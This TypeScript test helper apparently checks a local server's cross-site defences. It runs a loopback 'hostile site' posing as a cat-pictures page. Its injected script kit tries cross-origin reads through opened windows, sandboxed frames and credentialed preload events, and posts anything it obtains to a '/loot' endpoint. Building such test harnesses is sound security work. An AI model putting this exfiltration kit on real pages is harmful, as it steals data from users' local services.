import type { RequestListener } from 'node:http';
import { text } from 'node:stream/consumers';
import { listenOnLoopback } from './listening';
import { freePort } from './ports';

/** What one attempt of a hostile page got hold of; `nothing` where the browser or the server kept it. */
export interface Loot {
  readonly attempt: string;
  readonly got: string;
}

/** Somebody else's site: its pages do what they are told to other people's servers, and send home what they read. */
export interface HostileSite {
  /** The same pages on two origins: the one is of the same site as a server on `localhost`, the other is not. */
  readonly sameSite: string;
  readonly otherSite: string;
  /** Puts a page on the site, and says at which path. */
  readonly serve: (page: HostilePage) => string;
  /** What came home so far, oldest first. */
  readonly loot: () => readonly Loot[];
  readonly stop: () => Promise<void>;
}

export interface HostilePage {
  readonly body: string;
  readonly headers?: Readonly<Record<string, string>>;
}

/** `attempt` runs on every page, and in what it opens: it tells home what a try to read something returned. */
const kit = (origin: string): string => `
  function tell(attempt, got) {
    const body = JSON.stringify({ attempt, got: got ? String(got) : 'nothing' });
    void fetch('${origin}/loot', { method: 'POST', mode: 'no-cors', keepalive: true, body });
  }
  async function attempt(name, read) {
    tell(name, await new Promise((resolve) => resolve(read())).catch(() => null));
  }
  function settled(element) {
    return new Promise((resolve) => {
      element.addEventListener('load', () => resolve(true));
      element.addEventListener('error', () => resolve(false));
    });
  }
  /** Whether a preload's events tell anything: Firefox says that it was loaded even where there is nothing. */
  function tellsPreloads(href) {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'preload', as: 'fetch', crossOrigin: 'use-credentials', href });
    document.documentElement.append(link);
    return settled(link).then((loaded) => !loaded);
  }
  /** What a window or frame shows as soon as it has left its blank page. */
  function shown(other) {
    return new Promise((resolve, reject) => {
      const timer = setInterval(() => {
        try {
          if (other.closed) throw new Error('It is out of reach.');
          if (other.location.href === 'about:blank' || other.document.readyState !== 'complete') return;
          resolve(other.document.body.innerText);
        } catch (error) {
          reject(error);
        }
        clearInterval(timer);
      }, 20);
    });
  }
`;

/** A page within a page, whose origin is the opaque `null`. */
export function sandboxed(origin: string, script: string): string {
  const page = `<script>${kit(origin)}</script><script>${script}</script>`;
  return `<iframe sandbox="allow-scripts allow-forms" srcdoc="${asAttribute(page)}"></iframe>`;
}

/** A value between double quotes in HTML. */
export function asAttribute(value: string): string {
  return value.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
}

export async function startHostileSite(): Promise<HostileSite> {
  const port = await freePort();
  const pages: HostilePage[] = [];
  const loot: Loot[] = [];

  const answer: RequestListener = (request, response) => {
    if (request.url === '/loot') {
      void text(request).then((body) => {
        loot.push(JSON.parse(body) as Loot);
        response.writeHead(204).end();
      });
      return;
    }
    const page = pages[Number(/^\/pages\/(\d+)$/.exec(request.url ?? '')?.[1])];
    if (page === undefined) {
      response.writeHead(404, { 'Content-Type': 'text/plain' }).end('No cats here.');
      return;
    }
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', ...page.headers });
    response.end(
      `<!doctype html><title>Pictures of cats</title><link rel="icon" href="data:,">` +
        `<script>${kit(`http://${request.headers.host ?? ''}`)}</script>${page.body}`,
    );
  };
  const stop = await listenOnLoopback(answer, port);

  return {
    sameSite: `http://localhost:${port}`,
    otherSite: `http://127.0.0.1:${port}`,
    serve: (page) => `/pages/${pages.push(page) - 1}`,
    loot: () => loot,
    stop,
  };
}
